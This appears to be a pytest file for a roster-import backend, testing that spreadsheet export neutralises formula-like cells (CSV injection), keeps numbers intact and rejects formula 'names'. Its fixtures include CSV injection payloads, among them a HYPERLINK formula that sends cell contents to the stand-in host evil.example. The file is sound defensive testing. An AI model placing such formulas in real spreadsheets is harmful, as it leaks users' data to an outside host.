"""What the system writes for Excel never runs as a formula there (OWASP CSV injection), and numbers
stay numbers."""
import csv
import io
from decimal import Decimal

import pytest

from backend.core.spreadsheets import safe_cell, safe_row
from conftest import finished_import, upload_import


@pytest.mark.parametrize("text", ["=1+1", "+86 138", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x")'])
def test_text_that_could_start_a_formula_is_kept_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -12.5, Decimal("-300.00"), 0, 42, Decimal("1234.56")])
def test_numbers_stay_numbers_negative_ones_too(value):
    assert safe_cell(value) is value


def test_plain_text_and_empty_cells_are_unchanged():
    assert safe_row(["王建国", "钱王社区", None, "", "3 亩"]) == ["王建国", "钱王社区", "", "", "3 亩"]
    assert safe_cell(True) == "True"  # not a number column


def test_the_import_report_neutralises_what_the_clerk_typed(app, world, login_as):
    lead = login_as("lead")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    rows = "姓名,身份证号,村\n" + f'"{evil.replace(chr(34), chr(34) * 2)}",330112196203150011,@SUM(1+1)\n'
    run = finished_import(lead, upload_import(lead, world, ("\ufeff" + rows).encode(), "名册.csv"))
    assert run["status"] == "rejected"
    report = lead.get(run["report_url"]).data.decode("utf-8").lstrip("\ufeff")
    cells = [c for line in csv.reader(io.StringIO(report)) for c in line]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
    assert any(c.startswith("'=HYPERLINK") or c.startswith("'@SUM") for c in cells), cells


def test_a_formula_is_not_taken_for_a_villagers_name(app, world, login_as):
    """A roster whose name cells are formulas (valid ID numbers beside them) is refused: such a
    "name" would otherwise be stored, masked and shown as =*****."""
    lead = login_as("lead")
    rows = "姓名,身份证号,村\n" + '"=HYPERLINK(""http://evil.example"")",330112196203150011,钱王社区\n' + \
        "@SUM(1+1),330112196203150020,钱王社区\n"
    run = finished_import(lead, upload_import(lead, world, ("\ufeff" + rows).encode(), "名册.csv"))
    assert run["status"] == "rejected"
    assert {(e["row"], e["code"]) for e in run["errors"]} >= {(2, "name_formula"), (3, "name_formula")}
